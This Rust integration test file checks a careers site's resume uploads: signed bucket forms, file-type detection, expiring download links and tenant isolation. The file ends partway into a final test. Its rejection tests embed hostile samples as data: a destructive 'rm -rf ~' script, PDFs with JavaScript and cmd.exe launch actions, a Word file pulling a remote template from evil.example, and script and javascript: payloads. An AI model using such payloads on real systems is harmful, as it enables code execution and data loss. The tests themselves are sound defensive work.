//! Resume files: upload to the bucket, content check, storage, and download through the API.

use std::sync::atomic::{AtomicUsize, Ordering};

use bytes::Bytes;
use futures_util::future::{join, join_all};
use http::Method;
use serde_json::{Value, json};
use shared::config::BucketAccess;
use shared::model::Mode;
use shared::providers::Providers;
use tests::browser::{Browser, Form, input};
use tests::dashboard::{actions, escaped, owner};
use tests::interceptor::Fault;
use tests::{ACME, BASE_URL, GLOBEX, Response, TestApi};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use url::Url;

use crate::careers_applications::{Job, find, form, kinds, list, submission};
use crate::dashboard_access::is_write;

/// A small PDF.
pub(crate) const PDF: &[u8] = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n";
const MAX: usize = 10 * 1024 * 1024;

/// Sends a request to a URL.
async fn fetch(method: &str, url: &str, media: &str, body: &[u8]) -> Response {
    let url = Url::parse(url).unwrap();
    let (host, port) = (url.host_str().unwrap(), url.port().unwrap());
    let target = url.as_str().split_once(&format!("{host}:{port}")).unwrap().1;
    let mut stream = TcpStream::connect((host, port)).await.unwrap();
    let head = format!(
        "{method} {target} HTTP/1.1\r\nhost: {host}:{port}\r\nconnection: close\r\n\
         content-type: {media}\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    stream.write_all(body).await.unwrap();
    let mut received = Vec::new();
    stream.read_to_end(&mut received).await.unwrap();
    let end = received.windows(4).position(|bytes| bytes == b"\r\n\r\n").unwrap();
    let head = std::str::from_utf8(&received[..end]).unwrap();
    let mut lines = head.split("\r\n");
    let status = lines.next().unwrap().split(' ').nth(1).unwrap();
    let mut response = http::Response::builder().status(status);
    // The `date` header is omitted because it contains the real time.
    for (name, value) in lines.filter_map(|line| line.split_once(": ")).filter(|(name, _)| *name != "date") {
        response = response.header(name, value);
    }
    Response::read(response.body(Bytes::copy_from_slice(&received[end + 4..])).unwrap())
}

/// Returns the URL and the hidden fields of the upload form on a page.
fn upload(page: &Response) -> (String, Vec<(String, String)>) {
    let actions = actions(page);
    let [action] = actions.as_slice() else { panic!("{actions:?} in {}", page.text) };
    let names = page.text.split("<input type=\"hidden\" name=\"").skip(1);
    let names = names.filter_map(|rest| rest.split('"').next());
    (action.clone(), names.map(|name| (name.to_owned(), input(page, name))).collect())
}

pub(crate) async fn post(action: &str, fields: &[(String, String)], content: &[u8]) -> Response {
    let mut body = Vec::new();
    for (name, value) in fields {
        let part =
            format!("--rolecall\r\ncontent-disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n");
        body.extend_from_slice(part.as_bytes());
    }
    let file = "--rolecall\r\ncontent-disposition: form-data; name=\"file\"; filename=\"x.pdf\"\r\n\
                content-type: application/pdf\r\n\r\n";
    body.extend_from_slice(file.as_bytes());
    body.extend_from_slice(content);
    body.extend_from_slice(b"\r\n--rolecall--\r\n");
    fetch("POST", action, "multipart/form-data; boundary=rolecall", &body).await
}

/// Uploads a file with the form on a page.
pub(crate) async fn send(page: &Response, content: &[u8]) -> Response {
    let (action, fields) = upload(page);
    post(&action, &fields, content).await
}

/// Returns the path that the bucket redirects to.
pub(crate) fn redirect_path(sent: &Response) -> String {
    sent.header("location").strip_prefix(BASE_URL).unwrap().to_owned()
}

/// Uploads a file after an application, and follows the redirect.
pub(crate) async fn attach(api: &TestApi, applied: &Response, content: &[u8]) -> Response {
    let browser = Browser::new(api);
    let page = browser.follow(applied).await.expect(200);
    let sent = send(&page, content).await.expect(303);
    browser.get(&redirect_path(&sent)).await
}

pub(crate) async fn download(url: &str) -> Response {
    fetch("GET", url, "", b"").await
}

/// Returns an uncompressed ZIP archive of these files.
pub(crate) fn zip(files: &[(&str, &str)]) -> Vec<u8> {
    let crc = |bytes: &[u8]| {
        !bytes.iter().fold(!0u32, |crc, byte| {
            (0..8)
                .fold(crc ^ u32::from(*byte), |crc, _| (crc >> 1) ^ (0xEDB8_8320 & (crc & 1).wrapping_neg()))
        })
    };
    let (mut archive, mut directory) = (Vec::new(), Vec::new());
    for (name, content) in files {
        let (size, length) = (u32::try_from(content.len()).unwrap(), u16::try_from(name.len()).unwrap());
        let mut entry = vec![0x14, 0, 0, 0, 0, 0, 0, 0, 0x21, 0];
        entry.extend([crc(content.as_bytes()), size, size].iter().flat_map(|number| number.to_le_bytes()));
        entry.extend([length, 0].iter().flat_map(|number| number.to_le_bytes()));
        let offset = u32::try_from(archive.len()).unwrap().to_le_bytes();
        directory.extend([b"PK\x01\x02\x14\0", &entry[..], &[0; 10], &offset, name.as_bytes()].concat());
        archive.extend([b"PK\x03\x04", &entry[..], name.as_bytes(), content.as_bytes()].concat());
    }
    let (count, start) = (u16::try_from(files.len()).unwrap().to_le_bytes(), archive.len());
    let size = u32::try_from(directory.len()).unwrap().to_le_bytes();
    let start = u32::try_from(start).unwrap().to_le_bytes();
    archive.extend(directory);
    archive.extend([&b"PK\x05\x06\0\0\0\0"[..], &count, &count, &size, &start, &[0, 0]].concat());
    archive
}

/// The parts of a document of Word, with more parts.
pub(crate) fn docx(more: &[(&str, &str)]) -> Vec<u8> {
    const WORD: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    let types = format!("<Types><Override PartName='/word/document.xml' ContentType='{WORD}'/></Types>");
    let root = "<r><r Type='x/officeDocument' Target='word/document.xml'/></r>";
    let parts =
        [("[Content_Types].xml", &*types), ("_rels/.rels", root), ("word/document.xml", "<w:document/>")];
    zip(&[&parts[..], more].concat())
}

/// Returns a compound file with one stream in its root.
fn compound(stream: &str) -> Vec<u8> {
    let mut file = vec![0; 11 * 512];
    let mut put = |at: usize, bytes: &[u8]| file[at..at + bytes.len()].copy_from_slice(bytes);
    put(0, b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1");
    put(30, &[9, 0]);
    put(68, &[0xFE, 0xFF, 0xFF, 0xFF]);
    put(76, &[0xFF; 4 * 109]);
    // The allocation table is in the first sector; the directory is in the second, and the stream in the other eight.
    put(76, &[0; 4]);
    put(48, &[1, 0, 0, 0]);
    let table: [u32; 10] = [0xFFFF_FFFD, 0xFFFF_FFFE, 3, 4, 5, 6, 7, 8, 9, 0xFFFF_FFFE];
    put(512, &table.map(u32::to_le_bytes).concat());
    for (entry, name, kind, child) in [(1024, "Root Entry", 5, 1), (1024 + 128, stream, 2, u32::MAX)] {
        let name: Vec<_> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
        put(entry, &name);
        put(entry + 66, &[kind]);
        put(entry + 68, &[0xFF; 8]);
        put(entry + 76, &child.to_le_bytes());
        put(entry + 116, &[2, 0, 0, 0, 0, 0x10, 0, 0]);
    }
    file
}

/// Creates a test API with another bucket configuration, or without a bucket.
pub(crate) async fn with_bucket(access: impl FnOnce(BucketAccess) -> Option<BucketAccess>) -> TestApi {
    let mut api = TestApi::new().await;
    let config = &mut api.environment.config;
    config.services.resumes = config.services.resumes.take().and_then(access);
    api.environment.providers = Providers::new(config);
    api.restart();
    api
}

#[tokio::test]
async fn each_type_of_file_is_detected_by_its_content_and_served_as_an_attachment() {
    let api = TestApi::new().await;
    let job = Job::new(&api, "Analyst").await;
    let docx = docx(&[]);
    let odt = zip(&[("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<x/>")]);
    let large = [PDF, &vec![b' '; MAX - PDF.len()]].concat();
    for (number, (extension, content)) in [
        ("pdf", PDF.to_vec()),
        ("doc", compound("WordDocument")),
        ("docx", docx),
        ("odt", odt),
        ("rtf", b"{\\rtf1 Ada}".to_vec()),
        ("txt", "Ada <script>alert(1)</script>".into()),
        ("pdf", large),
    ]
    .into_iter()
    .enumerate()
    {
        let email = format!("ada{number}@example.com");
        let filled_form = form("Ada Lovelace", &email).set("resume_url", "https://example.com/cv");
        let applied = job.apply(&api, &filled_form).await.expect(303);
        api.clock.set("2026-11-20T09:31:00Z");
        let attached = attach(&api, &applied, &content).await.expect(303);
        let confirmation = Browser::new(&api).follow(&attached).await.expect(200);
        assert!(confirmation.text.contains("and your resume") && actions(&confirmation).is_empty());
        let candidate = find(&api, &email).await;
        assert_eq!(kinds(&candidate), ["updated", "file_added", "applied", "consent_changed", "created"]);
        assert_eq!(candidate.string("/touchpoints/0/actor/type"), "career_page");
        let url = candidate.string("/resume_url");
        assert_eq!(
            candidate.body["touchpoints"][0]["detail"],
            json!({ "fields": ["resume_url"], "resume_url": url })
        );
        let submitted = submission(&api, &candidate, 2).await;
        assert_eq!(submitted.string("/resume_url"), "https://example.com/cv");
        assert_eq!(submitted.body["resume_file_id"], candidate.body["applications"][0]["resume_file_id"]);
        assert!(submitted.body["resume_file_id"].is_u64());
        assert_eq!(candidate.string("/updated_at"), "2026-11-20T09:31:00.000Z");
        let file = download(url).await.expect(200);
        assert_eq!(file.text, String::from_utf8_lossy(&content), "{extension}");
        assert_eq!(file.header("content-type"), "application/octet-stream");
        let disposition = format!("attachment; filename=\"Ada Lovelace resume.{extension}\"");
        assert!(file.header("content-disposition").starts_with(&disposition), "{file:?}");
        api.clock.set("2026-11-20T09:30:00Z");
    }
}

#[tokio::test]
async fn a_file_that_is_not_a_resume_is_rejected_and_another_can_be_uploaded() {
    let api = TestApi::new().await;
    let job = Job::new(&api, "Analyst").await;
    let browser = Browser::new(&api);
    let applied = job.apply(&api, &form("Ada", "ada@example.com")).await.expect(303);
    let before = find(&api, "ada@example.com").await;
    // The query alone does not prove an upload: the file must be in the bucket.
    let early = browser.get(&format!("{}&etag=%22x%22", applied.header("location"))).await.expect(422);
    assert!(early.text.contains("We did not receive the file. Please upload it again."));
    let script = b"%PDF-1.7\n1 0 obj\n<</OpenAction<</S/J#61vaScript/JS(app.alert(1))>>>>\nendobj\n%%EOF";
    let template =
        "<r><r Type='x/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/></r>";
    for (content, sentence) in [
        (b"<!doctype html><script>alert(1)</script>".to_vec(), "This is a web page."),
        (b"MZ\x90\x00\x03".to_vec(), "This is not a PDF, DOC, DOCX, ODT, RTF or plain text file."),
        (b"\x7FELF\x02\x01".to_vec(), "This is not a PDF, DOC, DOCX, ODT, RTF or plain text file."),
        (b"#!/bin/sh\nrm -rf ~".to_vec(), "This is not a PDF, DOC, DOCX, ODT, RTF or plain text file."),
        (zip(&[("resume.pdf", "%PDF-1.7 %%EOF")]), "This is an archive."),
        (docx(&[("word/vbaProject.bin", "")]), "This document contains macros."),
        (
            docx(&[("word/_rels/settings.xml.rels", template)]),
            "This document loads a part of it from another computer.",
        ),
        (compound("Workbook"), "This is not a text document."),
        (b"%PDF-1.7\n1 0 obj".to_vec(), "This file is damaged or incomplete."),
        (b"PK\x03\x04%PDF-1.7 %%EOF".to_vec(), "This file is damaged or incomplete."),
        (b"\x89PNG\r\n\x1a\n".to_vec(), "This is a picture."),
        (b" \n".to_vec(), "This file is empty."),
        (script.to_vec(), "This PDF contains a script. Open it and print it to a new PDF."),
        (
            b"%PDF-1.7\n1 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n%%EOF".to_vec(),
            "This PDF starts a program.",
        ),
    ] {
        api.dynamodb.take_calls();
        let page = attach(&api, &applied, &content).await.expect(422);
        let written: Vec<_> = api.dynamodb.take_calls().into_iter().filter(is_write).collect();
        assert!(matches!(&written[..], [counted] if counted.operation == "UpdateItem"), "{sentence}");
        assert!(page.text.contains(sentence) && page.text.contains("aria-invalid=\"true\""), "{}", page.text);
        assert!(
            page.text.contains("Application received") && !page.text.contains("and your resume"),
            "{sentence}"
        );
        assert_eq!(page.header("cache-control"), "no-store");
        assert_eq!(upload(&page).1.len(), 7, "{sentence}: the form is shown again");
    }
    // The bucket itself rejects these files and does not redirect.
    let page = browser.follow(&applied).await.expect(200);
    for (content, code) in [(Vec::new(), "EntityTooSmall"), (vec![b'x'; MAX + 1], "EntityTooLarge")] {
        assert!(send(&page, &content).await.expect(400).text.contains(code));
    }
    assert_eq!(find(&api, "ada@example.com").await.text, before.text);
    attach(&api, &applied, PDF).await.expect(303);
    assert_eq!(
        kinds(&find(&api, "ada@example.com").await),
        ["updated", "file_added", "applied", "consent_changed", "created"]
    );
}

#[tokio::test]
async fn a_ticket_allows_20_files_to_be_checked() {
    let api = TestApi::new().await;
    let job = Job::new(&api, "Analyst").await;
    let applied = job.apply(&api, &form("Ada", "ada@example.com")).await.expect(303);
    for _ in 0..20 {
        let page = attach(&api, &applied, b"<html>").await.expect(422);
        assert!(page.text.contains("This is a web page."), "{}", page.text);
    }
    let page = attach(&api, &applied, PDF).await.expect(422);
    assert!(page.text.contains("You have uploaded too many files for this application"), "{}", page.text);
    assert_eq!(kinds(&find(&api, "ada@example.com").await), ["applied", "consent_changed", "created"]);
    let another = job.apply(&api, &form("Grace", "grace@example.com")).await.expect(303);
    attach(&api, &another, PDF).await.expect(303);
}

#[tokio::test]
async fn the_form_uploads_only_one_file_to_one_key() {
    let api = TestApi::new().await;
    let job = Job::new(&api, "Analyst").await;
    let applied = job.apply(&api, &form("Ada", "ada@example.com")).await.expect(303);
    let page = Browser::new(&api).follow(&applied).await.expect(200);
    let (action, fields) = upload(&page);
    let origin = Url::parse(&action).unwrap().origin().ascii_serialization();
    let policy = page.header("content-security-policy");
    // The bucket redirects to the site's own address, from whichever address the page was opened.
    let redirect = &fields.iter().find(|(name, _)| name == "success_action_redirect").unwrap().1;
    let back = Url::parse(redirect).unwrap().origin().ascii_serialization();
    assert!(policy.contains(&format!("form-action 'self' {origin} {back};")), "{policy}");
    let key = fields.iter().find(|(name, _)| name == "key").unwrap().1.clone();
    let name = key.strip_prefix("incoming/acme/").unwrap();
    assert!(name.len() >= 24 && !page.text.contains("ada@example.com"));
    let set = |name: &str, value: &str| {
        let mut fields = fields.clone();
        let field = fields.iter_mut().find(|(known, _)| known == name);
        value.clone_into(&mut field.unwrap().1);
        fields
    };
    for changed in [
        set("key", "incoming/globex/x"),
        set("key", "resumes/1/live/x.pdf"),
        set("key", &format!("{key}x")),
        set("success_action_redirect", "https://evil.example/"),
        [fields.clone(), vec![("x-amz-server-side-encryption".to_owned(), "AES256".to_owned())]].concat(),
        set("policy", "e30="),
        set("x-amz-signature", &"0".repeat(64)),
        [fields.clone(), vec![("content-type".to_owned(), "text/html".to_owned())]].concat(),
        [fields.clone(), vec![("acl".to_owned(), "public-read".to_owned())]].concat(),
    ] {
        let response = post(&action, &changed, PDF).await;
        assert!([400, 403].contains(&response.status), "{changed:?} {}", response.text);
    }
    // Nobody can read, list or delete uploaded files.
    post(&action, &fields, PDF).await.expect(303);
    for (method, path) in [("GET", format!("/{key}")), ("GET", String::new()), ("DELETE", format!("/{key}"))]
    {
        let response = fetch(method, &format!("{}{path}", action.trim_end_matches('/')), "", b"").await;
        assert!(response.status >= 400, "{method} {path}: {}", response.text);
    }
    // A form expires after 15 minutes. Reloading the page shows a new one.
    api.clock.set("2026-11-20T09:45:00Z");
    post(&action, &fields, PDF).await.expect(403);
    attach(&api, &applied, PDF).await.expect(303);
}

#[tokio::test]
async fn a_ticket_is_valid_for_an_hour() {
    let api = TestApi::new().await;
    let job = Job::new(&api, "Analyst").await;
    let browser = Browser::new(&api);
    let mut applied = Vec::new();
    for name in ["ada", "grace"] {
        let form = form(name, &format!("{name}@example.com"));
        applied.push(job.apply(&api, &form).await.expect(303));
    }
    api.clock.set("2026-11-20T10:29:59Z");
    attach(&api, &applied[0], PDF).await.expect(303);
    let page = browser.follow(&applied[1]).await.expect(200);
    let sent = send(&page, PDF).await.expect(303);
    api.clock.set("2026-11-20T10:30:00Z");
    for late in [applied[1].header("location").to_owned(), redirect_path(&sent)] {
        let response = browser.get(&late).await.expect(303);
        assert_eq!(response.header("location"), format!("{}#apply", job.path));
    }
    assert_eq!(
        kinds(&find(&api, "ada@example.com").await),
        ["updated", "file_added", "applied", "consent_changed", "created"]
    );
    let grace = find(&api, "grace@example.com").await;
    assert_eq!(
        (kinds(&grace), &grace.body["resume_url"]),
        (vec!["applied", "consent_changed", "created"], &Value::Null)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_ticket_attaches_one_file() {
    let api = TestApi::new().await;
    let job = Job::new(&api, "Analyst").await;
    let browser = Browser::new(&api);
    let applied = job.apply(&api, &form("Ada", "ada@example.com")).await.expect(303);
    let page = browser.follow(&applied).await.expect(200);
    let back = redirect_path(&send(&page, PDF).await.expect(303));
    for response in join_all((0..6).map(|_| browser.get(&back))).await {
        assert_eq!(response.status, 303, "{}", response.text);
    }
    let candidate = find(&api, "ada@example.com").await;
    assert_eq!(kinds(&candidate), ["updated", "file_added", "applied", "consent_changed", "created"]);
    // A reload or another file changes nothing.
    browser.get(&back).await.expect(303);
    attach(&api, &applied, b"Another one").await.expect(303);
    let again = find(&api, "ada@example.com").await;
    assert_eq!(again.text, candidate.text);
    assert_eq!(download(again.string("/resume_url")).await.expect(200).text.as_bytes(), PDF);
}

/// The file is replaced between its check and its copy.
#[tokio::test]
async fn a_file_that_was_not_checked_is_not_attached() {
    let api = TestApi::new().await;
    let job = Job::new(&api, "Analyst").await;
    let browser = Browser::new(&api);
    let applied = job.apply(&api, &form("Ada", "ada@example.com")).await.expect(303);
    let page = browser.follow(&applied).await.expect(200);
    let back = redirect_path(&send(&page, PDF).await.expect(303));
    let (action, fields) = upload(&page);
    // The candidate is read right after the check of the file.
    let dynamodb = api.dynamodb.clone();
    api.dynamodb.inject_faults(move |operation, request| {
        let partition = request["ExpressionAttributeValues"][":hash"]["S"].to_string();
        if operation == "Query" && partition.contains("#CANDIDATE#") {
            let (action, fields) = (action.clone(), fields.clone());
            dynamodb.run_before("Query", async move {
                post(&action, &fields, b"<script>alert(1)</script>").await.expect(303);
            });
        }
        None
    });
    let page = browser.get(&back).await.expect(422);
    api.dynamodb.inject_faults(|_, _| None);
    assert!(
        page.text.contains("The file changed while we were checking it. Please upload it again."),
        "{}",
        page.text
    );
    assert_eq!(kinds(&find(&api, "ada@example.com").await), ["applied", "consent_changed", "created"]);
    browser.get(&back).await.expect(422);
    attach(&api, &applied, PDF).await.expect(303);
    let url = find(&api, "ada@example.com").await.string("/resume_url").to_owned();
    assert_eq!(download(&url).await.expect(200).text.as_bytes(), PDF);
}

#[tokio::test]
async fn an_interrupted_upload_can_be_repeated() {
    let api = TestApi::new().await;
    let job = Job::new(&api, "Analyst").await;
    let browser = Browser::new(&api);
    let mut successful_calls = 0;
    loop {
        let email = format!("ada{successful_calls}@example.com");
        let applied = job.apply(&api, &form("Ada", &email)).await.expect(303);
        let page = browser.follow(&applied).await.expect(200);
        let back = redirect_path(&send(&page, PDF).await.expect(303));
        let calls = AtomicUsize::new(0);
        api.dynamodb.inject_faults(move |_, _| {
            (calls.fetch_add(1, Ordering::Relaxed) >= successful_calls).then_some(Fault::Unreachable)
        });
        let response = browser.get(&back).await;
        api.dynamodb.inject_faults(|_, _| None);
        if response.status == 303 {
            break;
        }
        assert_eq!((response.status, response.header("retry-after")), (503, "1"));
        assert_eq!(
            kinds(&find(&api, &email).await),
            ["applied", "consent_changed", "created"],
            "{successful_calls} calls succeeded"
        );
        browser.get(&back).await.expect(303);
        assert_eq!(
            kinds(&find(&api, &email).await),
            ["updated", "file_added", "applied", "consent_changed", "created"]
        );
        successful_calls += 1;
    }
    assert!(successful_calls >= 5, "{successful_calls}");
}

#[tokio::test]
async fn an_application_is_accepted_without_a_bucket() {
    let nowhere = |access| Some(BucketAccess { endpoint: Some("http://127.0.0.1:1".to_owned()), ..access });
    let api = with_bucket(nowhere).await;
    let job = Job::new(&api, "Analyst").await;
    let browser = Browser::new(&api);
    let applied = job.apply(&api, &form("Ada", "ada@example.com")).await.expect(303);
    browser.follow(&applied).await.expect(200);
    api.dynamodb.take_calls();
    let page = browser.get(&format!("{}&etag=x", applied.header("location"))).await.expect(422);
    let written: Vec<_> = api.dynamodb.take_calls().into_iter().filter(is_write).collect();
    assert!(matches!(&written[..], [counted] if counted.operation == "UpdateItem"), "{written:?}");
    let sentence = "Your application has been received; please upload the file again in a minute.";
    assert!(page.text.contains(sentence) && !actions(&page).is_empty(), "{}", page.text);
    assert!(!page.text.contains("127.0.0.1:1/local-resumes/incoming"), "the file's location is not shown");
    assert_eq!(kinds(&find(&api, "ada@example.com").await), ["applied", "consent_changed", "created"]);

    let api = with_bucket(|_| None).await;
    let job = Job::new(&api, "Analyst").await;
    let applied = job.apply(&api, &form("Ada", "ada@example.com")).await.expect(303);
    let browser = Browser::new(&api);
    for more in ["", "&etag=x", "&attached=yes"] {
        let page = browser.get(&format!("{}{more}", applied.header("location"))).await.expect(200);
        assert!(page.text.contains("Application received") && !page.text.contains("and your resume"));
        assert!(actions(&page).is_empty(), "{}", page.text);
    }
    assert_eq!(kinds(&find(&api, "ada@example.com").await), ["applied", "consent_changed", "created"]);
}

/// Creates a candidate whose resume is a file. Returns the candidate's path in the API.
async fn create_candidate_with_file(api: &TestApi, job: &Job, name: &str, email: &str) -> String {
    let applied = job.apply(api, &form(name, email)).await.expect(303);
    attach(api, &applied, PDF).await.expect(303);
    format!("/api/v1/candidates/{}", find(api, email).await.number("/id"))
}

#[tokio::test]
async fn the_link_in_the_api_expires_and_does_not_change_the_entity_tag() {
    let api = TestApi::new().await;
    let job = Job::new(&api, "Analyst").await;
    let path = create_candidate_with_file(&api, &job, "Ada", "ada@example.com").await;
    let first = api.get(&path).await.expect(200);
    let url = first.string("/resume_url").to_owned();
    assert_eq!(list(&api, "").await[0]["resume_url"], *url);
    assert_eq!(list(&api, &format!("?role_id={}", job.role)).await[0]["resume_url"], *url);
    api.clock.set("2026-11-20T09:44:59Z");
    assert_eq!(api.get(&path).await.expect(200).text, first.text);
    api.clock.set("2026-11-20T09:45:00Z");
    let next = api.get(&path).await.expect(200);
    assert_ne!(next.string("/resume_url"), url);
    assert_eq!(next.header("etag"), first.header("etag"), "a new link does not change the candidate");
    // A client that already has the candidate still gets a link that has not expired.
    for known in [first.header("etag"), &format!("W/{}", first.header("etag")), "*"] {
        let response =
            api.request(Method::GET, &path).header("if-none-match", known).send().await.expect(200);
        assert_eq!(response.string("/resume_url"), next.string("/resume_url"), "{known}");
    }
    api.clock.set("2026-11-20T10:29:59Z");
    assert_eq!(download(&url).await.expect(200).text.as_bytes(), PDF);
    api.clock.set("2026-11-20T10:30:00Z");
    download(&url).await.expect(403);
    let url = api.get(&path).await.expect(200).string("/resume_url").to_owned();
    let (base, query) = url.split_once('?').unwrap();
    for changed in [
        base.to_owned(),
        url.replace("attachment", "inline"),
        url.replace("octet-stream", "pdf"),
        url.replace("Expires=3600", "Expires=36000"),
        format!("{}x?{query}", base.replace("resumes/1/live/", "resumes/2/live/")),
    ] {
        assert_ne!(changed, url);
        download(&changed).await.expect(403);
    }
}

#[tokio::test]
async fn a_patch_with_the_files_link_keeps_it_and_another_link_replaces_it() {
    let api = TestApi::new().await;
    let job = Job::new(&api, "Analyst").await;
    // The second name has the maximum length, in characters that take the most space in a URL.
    for (number, name) in ["Ada".to_owned(), "🦀".repeat(200)].into_iter().enumerate() {
        api.clock.set("2026-11-20T09:30:00Z");
        let path = create_candidate_with_file(&api, &job, &name, &format!("ada{number}@example.com")).await;
        let candidate = api.get(&path).await.expect(200);
        let url = candidate.string("/resume_url");
        assert_eq!(download(url).await.expect(200).text.as_bytes(), PDF);
        api.clock.set("2026-11-20T12:00:00Z");
        for body in [
            json!({ "resume_url": url }),
            json!({ "name": name, "resume_url": url }),
            json!({ "resume_url": api.get(&path).await.string("/resume_url") }),
        ] {
            api.dynamodb.take_calls();
            let kept = api.patch(&path, body).await.expect(200);
            assert!(!api.dynamodb.take_calls().iter().any(|call| call.operation == "TransactWriteItems"));
            assert_eq!(download(kept.string("/resume_url")).await.expect(200).text.as_bytes(), PDF);
        }
        let renamed = api.request(Method::PATCH, &path).header("if-match", candidate.header("etag"));
        let body = json!({ "name": "Grace", "resume_url": url });
        let renamed = renamed.json(&body).send().await.expect(200);
        let file = download(renamed.string("/resume_url")).await.expect(200);
        assert!(file.header("content-disposition").contains("Grace resume.pdf"), "the file has the new name");
        let touchpoint = |candidate: &Response| candidate.body["touchpoints"][0]["detail"]["fields"].clone();
        assert_eq!(touchpoint(&api.get(&path).await), json!(["name"]));

        let other = "https://example.com/other.pdf";
        let replaced = api.patch(&path, json!({ "resume_url": other })).await.expect(200);
        assert_eq!(replaced.string("/resume_url"), other);
        assert_eq!(touchpoint(&api.get(&path).await), json!(["resume_url"]));
        // The old link is then stored like any other link.
        let replaced = api.patch(&path, json!({ "resume_url": renamed.string("/resume_url") })).await;
        assert_eq!(replaced.expect(200).body["resume_url"], renamed.body["resume_url"]);
        // A link that only resembles a signed link is validated like any other link.
        let long = format!("https://example.com/?X-Amz-Signature={}", "x".repeat(2_000));
        for (sent, message) in [
            (long.as_str(), "resume_url must be at most 2000 characters"),
            (
                "javascript:alert('X-Amz-Signature=')",
                "resume_url must be a URL that begins with http:// or https://",
            ),
        ] {
            let refused = api.patch(&path, json!({ "resume_url": sent })).await.expect(422);
            assert_eq!(refused.messages(), [message]);
        }
        api.patch(&path, json!({ "resume_url": null })).await.expect(200);
        assert_eq!(api.get(&path).await.body["resume_url"], Value::Null);
    }
}

#[tokio::test]
async fn an_existing_candidate_keeps_their_resume_and_the_history_shows_the_file() {
    let api = TestApi::new().await;
    let (job, other) = (Job::new(&api, "Analyst").await, Job::new(&api, "Engineer").await);
    let jane =
        json!({ "name": "Jane", "email": "jane@example.com", "resume_url": "https://example.com/jane" });
    let path = format!("/api/v1/candidates/{}", api.post("/api/v1/candidates", jane).await.number("/id"));
    let note = form("Jane", "jane@example.com").set("note", "<b>Me</b>\r\nagain");
    let applied = job.apply(&api, &note).await.expect(303);
    attach(&api, &applied, b"Not what Jane wrote").await.expect(303);
    let candidate = api.get(&path).await.expect(200);
    assert_eq!(kinds(&candidate), ["updated", "file_added", "applied", "created"]);
    assert_eq!(candidate.string("/resume_url"), "https://example.com/jane");
    assert_eq!(candidate.body["touchpoints"][0]["detail"]["fields"], json!([]));
    let url = candidate.string("/touchpoints/0/detail/resume_url");
    assert_eq!(download(url).await.expect(200).text, "Not what Jane wrote");
    api.clock.set("2026-11-20T09:50:00Z");
    let later = api.get(&path).await.expect(200);
    assert_eq!(
        later.header("etag"),
        candidate.header("etag"),
        "a new link in the history does not change the candidate"
    );

    // The dashboard shows the note, the link and the file.
    let dashboard = Browser::with_session(&api, ACME, &owner(&api, ACME).await).await;
    let page = dashboard.get(&path.replace("/api/v1", "/dashboard")).await.expect(200);
    let url = later.string("/touchpoints/0/detail/resume_url");
    let link = |url: &str, words: &str| {
        format!("<a href=\"{}\" rel=\"noreferrer nofollow\">{words}</a>", escaped(url))
    };
    for part in [
        link(url, "download"),
        link("https://example.com/jane", "https://example.com/jane"),
        format!("{}</blockquote>", escaped("<b>Me</b>\nagain")),
        "via the career page".to_owned(),
        ", career page</p>".to_owned(),
    ] {
        assert!(page.text.contains(&part), "{part} in {}", page.text);
    }
    let path = create_candidate_with_file(&api, &other, "Ada", "ada@example.com").await;
    let page = dashboard.get(&path.replace("/api/v1", "/dashboard")).await.expect(200);
    let url = api.get(&path).await.string("/resume_url").to_owned();
    let file = api.get(&format!("{path}/files")).await.number("/data/0/id");
    let open = format!("{}/files/{file}", path.replace("/api/v1", "/dashboard"));
    assert!(page.text.contains(&link(&open, "Download")) && page.text.contains(&link(&url, "download")));
    // Opening the file is remembered, and leads to the same file.
    let opened = dashboard.get(&open).await.expect(303);
    assert_eq!(opened.header("location").split('?').next(), url.split('?').next());

    // Only the ticket of the application that created the candidate sets the resume, even after another application.
    let form = form("Grace", "grace@example.com");
    let first = job.apply(&api, &form).await.expect(303);
    let second = other.apply(&api, &form).await.expect(303);
    attach(&api, &second, b"second").await.expect(303);
    let path = format!("/api/v1/candidates/{}", find(&api, "grace@example.com").await.number("/id"));
    assert_eq!(api.get(&path).await.body["resume_url"], Value::Null);
    attach(&api, &first, b"first").await.expect(303);
    assert_eq!(download(api.get(&path).await.string("/resume_url")).await.text, "first");
}

#[tokio::test]
async fn files_of_tenants_are_isolated() {
    let api = TestApi::new().await;
    let ours =
        create_candidate_with_file(&api, &Job::new(&api, "Analyst").await, "Ada", "ada@example.com").await;
    let ours = api.get(&ours).await.string("/resume_url").to_owned();
    for (demo, mode, folder) in [(ACME, Mode::Test, "1/test"), (GLOBEX, Mode::Live, "2/live")] {
        api.clock.set("2026-11-20T09:30:00Z");
        let job = Job::of(&api, demo, mode, "Analyst").await;
        let applied = job.apply(&api, &form("Grace", "grace@example.com")).await.expect(303);
        attach(&api, &applied, b"Theirs").await.expect(303);
        let listed = api.request(Method::GET, "/api/v1/candidates").key(demo, mode).send().await;
        let (id, theirs) = (listed.number("/data/0/id"), listed.string("/data/0/resume_url"));
        assert!(theirs.contains(&format!("/resumes/{folder}/")), "{theirs}");
        assert_eq!(download(theirs).await.expect(200).text, "Theirs");
        // Neither another tenant's key nor its link gives access to the file: a key is invalid, and the link expires.
        let patch = |body: Value| {
            let request = api.request(Method::PATCH, &format!("/api/v1/candidates/{id}")).key(demo, mode);
            request.json(&body).send()
        };
        let key = Url::parse(&ours).unwrap().path().split_once("local-resumes/").unwrap().1.to_owned();
        patch(json!({ "resume_url": key })).await.expect(422);
        assert_eq!(patch(json!({ "resume_url": ours })).await.expect(200).body["resume_url"], *ours);
        api.clock.set("2026-11-20T13:00:00Z");
        let listed = api.request(Method::GET, "/api/v1/candidates").key(demo, mode).send().await;
        assert_eq!(listed.string("/data/0/resume_url"), ours, "the link is not signed again");
        download(&ours).await.expect(403);
    }
}

/// After an application, a file can be uploaded while the role is open or paused, but not after it is closed.
#[tokio::test]
async fn a_file_can_be_uploaded_while_the_posting_is_visible() {
    let api = TestApi::new().await;
